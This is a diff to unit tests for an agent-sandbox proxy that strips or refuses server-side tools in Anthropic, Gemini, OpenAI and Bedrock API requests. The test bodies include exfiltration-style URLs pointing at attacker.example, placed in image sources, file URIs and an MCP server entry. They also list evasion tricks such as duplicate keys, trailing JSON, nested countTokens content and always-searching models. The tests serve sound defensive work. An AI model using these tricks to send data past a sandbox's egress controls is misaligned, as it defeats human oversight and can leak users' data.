@@ -3,6 +3,7 @@ package dev.agentsandbox.proxy;
 import static org.assertj.core.api.Assertions.assertThat;
 
 import java.nio.file.Path;
+import java.util.List;
 import org.junit.jupiter.api.AfterEach;
 import org.junit.jupiter.api.BeforeEach;
 import org.junit.jupiter.api.Test;
@@ -88,5 +89,57 @@ class ServerSideTest {
         assertThat(proxy.upstream.received).isEmpty();
         assertThat(proxy.call("POST", path, "{\"contents\":[],\"tools\":[{\"function_declarations\":[{\"name\":\"write_file\"}]}]}"))
                 .startsWith("HTTP/1.1 200");
+    }
+
+    /** What a hostile review found: paths past the last segment, nesting, other spellings, a key twice, a body on a path of no known API. */
+    @Test
+    void theWaysAroundItAreClosed() throws Exception {
+        String mcp = "\"mcp_servers\":[{\"type\":\"url\",\"url\":\"https://attacker.example/mcp\",\"name\":\"x\"}]";
+        // count_tokens takes the same body as messages
+        proxy.call("POST", "/anthropic/v1/messages/count_tokens", "{\"model\":\"claude-x\"," + mcp + ",\"messages\":[]}");
+        assertThat(proxy.upstream.received).last().satisfies(r -> assertThat(r.path()).endsWith("/count_tokens"));
+        assertThat(lastBody()).doesNotContain("attacker.example");
+        int before = proxy.upstream.received.size();
+        for (String[] call : new String[][] {
+            // an image by URL inside a document's content
+            {"/anthropic/v1/messages", "{\"model\":\"claude-x\",\"messages\":[{\"role\":\"user\",\"content\":[{\"type\":\"document\",\"source\":"
+                    + "{\"type\":\"content\",\"content\":[{\"type\":\"image\",\"source\":{\"type\":\"url\",\"url\":\"https://attacker.example/?d=S\"}}]}}]}]}"},
+            // a key twice: the upstream might read the first
+            {"/anthropic/v1/messages", "{\"model\":\"claude-x\",\"tools\":[{\"type\":\"web_fetch_20250910\",\"name\":\"f\"}],\"tools\":[],\"messages\":[]}"},
+            {"/anthropic/v1/messages", "{\"model\":\"claude-x\",\"messages\":[]} {\"trailing\":1}"},
+            // Gemini: tools as an object, and content nested in countTokens' request
+            {"/gemini/v1beta/models/gemini-2.5-pro:generateContent", "{\"contents\":[],\"tools\":{\"urlContext\":{}}}"},
+            {"/gemini/v1beta/models/gemini-2.5-pro:countTokens", "{\"generateContentRequest\":{\"contents\":[{\"parts\":[{\"fileData\":"
+                    + "{\"fileUri\":\"https://attacker.example/?d=S\"}}]}]}}"},
+            {"/gemini/v1beta/models/gemini-2.5-pro:countTokens", "{\"generateContentRequest\":{\"contents\":[],\"tools\":[{\"googleSearch\":{}}]}}"},
+            // OpenAI: a model that always searches
+            {"/openai/v1/chat/completions", "{\"model\":\"gpt-4o-search-preview\",\"messages\":[]}"},
+            {"/openai/v1/chat/completions", "{\"model\":\"perplexity/sonar-pro\",\"messages\":[]}"},
+        }) {
+            assertThat(proxy.call("POST", call[0], call[1])).as(call[1]).startsWith("HTTP/1.1 4").containsPattern("server-side|path");
+        }
+        assertThat(proxy.upstream.received).hasSize(before);
+        // search options and gateway plugins are taken out; a function schema may name anything
+        assertThat(proxy.call("POST", "/openai/v1/chat/completions", "{\"model\":\"gpt-x\",\"web_search_options\":{},\"plugins\":[{\"id\":\"web\"}],"
+                + "\"messages\":[],\"tools\":[{\"type\":\"function\",\"function\":{\"name\":\"f\",\"parameters\":{\"properties\":{\"image_url\":{},"
+                + "\"file_id\":{}}}}}]}")).startsWith("HTTP/1.1 200");
+        assertThat(lastBody()).doesNotContain("web_search_options").doesNotContain("plugins").contains("\"file_id\"");
+    }
+
+    @Test
+    void theApiIsToldByThePathAndBedrocksSystemToolsAreTakenOut() throws Exception {
+        var plain = new dev.agentsandbox.config.ProxyConfig.Upstream("x", "http://127.0.0.1:1", List.of(), List.of(), null, null);
+        assertThat(ServerSide.Api.of(Target.parse("/vertex/v1/projects/p/locations/r/publishers/anthropic/models/c:rawPredict"), plain))
+                .isEqualTo(ServerSide.Api.ANTHROPIC);
+        assertThat(ServerSide.Api.of(Target.parse("/x/v1/responses/compact"), plain)).isEqualTo(ServerSide.Api.OPENAI);
+        assertThat(ServerSide.Api.of(Target.parse("/x/v1/messages/count_tokens"), plain)).isEqualTo(ServerSide.Api.ANTHROPIC);
+        assertThat(ServerSide.Api.of(Target.parse("/x/v1beta/models/g:streamGenerateContent"), plain)).isEqualTo(ServerSide.Api.GEMINI);
+        assertThat(new String(ServerSide.withoutServerTools(ServerSide.Api.CONVERSE, ("{\"messages\":[],\"toolConfig\":{\"tools\":[{\"systemTool\":"
+                + "{\"name\":\"nova_grounding\"}},{\"toolSpec\":{\"name\":\"write\"}}]}}").getBytes(java.nio.charset.StandardCharsets.UTF_8)),
+                java.nio.charset.StandardCharsets.UTF_8)).doesNotContain("nova_grounding").contains("\"write\"");
+        // a body on a path of no known API is refused when any API would find something in it
+        assertThat(ServerSide.refusal(ServerSide.Api.OTHER, "{\"mcp_servers\":[{\"url\":\"https://a.example\"}]}".getBytes(java.nio.charset.StandardCharsets.UTF_8)))
+                .isNotNull();
+        assertThat(ServerSide.refusal(ServerSide.Api.OTHER, "{\"input\":\"text to embed\"}".getBytes(java.nio.charset.StandardCharsets.UTF_8))).isNull();
     }
 }
